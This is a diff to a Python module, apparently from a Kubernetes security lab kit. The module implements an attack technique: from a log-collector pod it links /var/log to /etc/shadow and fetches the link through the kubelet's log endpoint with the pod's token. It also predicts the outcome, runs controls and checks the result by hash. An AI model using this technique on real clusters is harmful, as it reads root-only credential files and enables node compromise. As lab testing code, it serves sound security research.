@@ -1,7 +1,9 @@
-"""Read any file of a worker through the kubelet's logs, by a link that leads out of them.
+"""Read any file of a worker through the kubelet's log endpoint and a symbolic link.
 
-The kubelet serves /var/log as root and follows symbolic links. Whoever may write there, as the
-agents that collect logs often may, and get ``nodes/log``, reads what only root may.
+The kubelet serves ``/var/log`` as root and follows symbolic links. The attacker needs a pod that
+can write to this folder as root, as log collectors often can, and the right to get ``nodes/log``.
+They link to ``/etc/shadow`` and ask the kubelet for the link. It stops if the pod does not mount
+``/var/log`` writable, or if the kubelet does not serve the machine's logs.
 """
 
 from __future__ import annotations
@@ -17,7 +19,7 @@ from labkit.model.rights import Action, bearer_at_kubelet, may_at_kubelet
 from labkit.model.workloads import mounted, token_caller, token_in, user_of
 from labkit.techniques._lib.api.ask import ask
 from labkit.techniques._lib.api.kubelet import CHANNEL, as_apiserver, kubelet_url
-from labkit.techniques._lib.machines.pod import find_pod, from_pod, token_of
+from labkit.techniques._lib.machines.pod import find_pod, run_in_pod, token_of
 from labkit.techniques._lib.machines.reach import Answer, digest, run
 from labkit.techniques._lib.technique import POD, Prediction, Technique
 from labkit.techniques._lib.verdict import Setting, Verdict
@@ -31,13 +33,13 @@ __all__ = ["TECHNIQUE"]
 AGENT = ("monitoring", "agent")
 KUBELET, WORKER = "kubelet@worker1", "worker1"
 LOGS, ONLY_ROOT_READS = "/var/log", "/etc/shadow"
-#: The kubelet serves no logs without the first, and not the machine's without the second.
+#: The first enables all log endpoints, the second those of the machine.
 HANDLERS = ("enableDebuggingHandlers", "enableSystemLogHandler")
 ACTION = Action("get", "nodes/log", name=WORKER)
 
 
 def predict(model: Model, foothold: Foothold) -> Prediction:
-    """Say what the model says: the folder, its owner, the kubelet's rights, then its handlers."""
+    """Predict from the mount, the pod's user, its rights and the kubelet's log handlers."""
     env, kubelet = model.environment, model.environment.component(KUBELET)
     folder, user = mounted(env, *AGENT, LOGS), user_of(env, *AGENT)
     if folder.value != "writable":
@@ -58,19 +60,19 @@ def predict(model: Model, foothold: Foothold) -> Prediction:
 
 
 def execute(lab: Lab, foothold: Foothold) -> Verdict:
-    """Link to a file from the agent's pod, and ask the kubelet for the link."""
+    """Create a link to a file from the agent's pod, and ask the kubelet for it."""
     pod, link = find_pod(lab, *AGENT), f"labkit-{secrets.token_hex(4)}"
     folder = mounted(lab.environment, *AGENT, LOGS)
-    truth = digest(lab, WORKER, ONLY_ROOT_READS)
+    expected = digest(lab, WORKER, ONLY_ROOT_READS)
     try:
         if refused := _link(lab, foothold, folder.detail if folder.value != "none" else "", link):
             return refused
         token = token_of(lab, pod)
         if token is None:
-            raise ProbeError("the agent has no token, and it should")
+            raise ProbeError("the agent's pod has no token, although its manifest asks for one")
 
         def proof(answer: Answer) -> str:
-            if hashlib.sha256(answer.body).hexdigest() != truth:
+            if hashlib.sha256(answer.body).hexdigest() != expected:
                 raise ProbeError(f"the kubelet answered, but not with {ONLY_ROOT_READS}")
             return f"read: {ONLY_ROOT_READS} of {WORKER}; the right bytes by their hash"
 
@@ -80,8 +82,8 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
             foothold,
             kubelet_url(lab, f"/logs/{link}"),
             options=["--header", f"Authorization: Bearer {token}"],
-            telling=("HTTP 405",),
-            shown=f"GET /logs/LINK at {WORKER}",
+            more_refusals=("HTTP 405",),
+            description=f"GET /logs/LINK at {WORKER}",
             proof=proof,
             control=lambda: _answers(lab, token),
         )
@@ -90,20 +92,20 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
 
 
 def _link(lab: Lab, foothold: Foothold, folder: str, link: str) -> Verdict | None:
-    """Make the link from within the pod; return a verdict where it cannot be made."""
+    """Create the link from inside the pod; return a verdict if that is refused."""
     pod = find_pod(lab, *AGENT)
     if folder:
         path = pod.path(f"{folder}/{link}")
-        output = from_pod(lab, pod, ["ln", "--symbolic", ONLY_ROOT_READS, path])
+        output = run_in_pod(lab, pod, ["ln", "--symbolic", ONLY_ROOT_READS, path])
         if not output.exit_code:
             return None
         words = ("Permission denied", "Read-only file system")
         reason = next((word.lower() for word in words if word in output.error), "")
     else:
-        found = from_pod(lab, pod, ["ls", pod.path("/machine")])
+        found = run_in_pod(lab, pod, ["ls", pod.path("/machine")])
         reason = "" if not found.exit_code else f"{LOGS} is not in the pod"
     if not reason:
-        raise ProbeError("the link was neither made nor refused")
+        raise ProbeError("the link in /var/log was neither created nor refused")
     run(lab, WORKER, ["ln", "--symbolic", ONLY_ROOT_READS, f"{LOGS}/{link}"], check=True)
     asked = (f"tried to link to {ONLY_ROOT_READS} from {LOGS}, in monitoring/agent",)
     control = "root on the worker makes the same link"
@@ -111,12 +113,12 @@ def _link(lab: Lab, foothold: Foothold, folder: str, link: str) -> Verdict | Non
 
 
 def _answers(lab: Lab, token: str) -> str:
-    """Show, after a refusal, that the kubelet serves the same token, or else the apiserver."""
+    """Show that the kubelet serves the same token, or else the apiserver: the control."""
     header = ["--header", f"Authorization: Bearer {token}"]
     argv = ["curl", "--silent", "--show-error", "--fail", "--insecure", "--output", "/dev/null"]
     if not run(lab, WORKER, [*argv, *header, kubelet_url(lab, "/metrics")]).exit_code:
         return "with the same token, the kubelet tells its metrics"
-    # a kubelet that asks nobody about tokens knows certificates only
+    # a kubelet without webhook authentication accepts certificates, but no tokens
     as_apiserver(lab, "GET", "/metrics")
     return "the kubelet tells the apiserver its metrics"
 
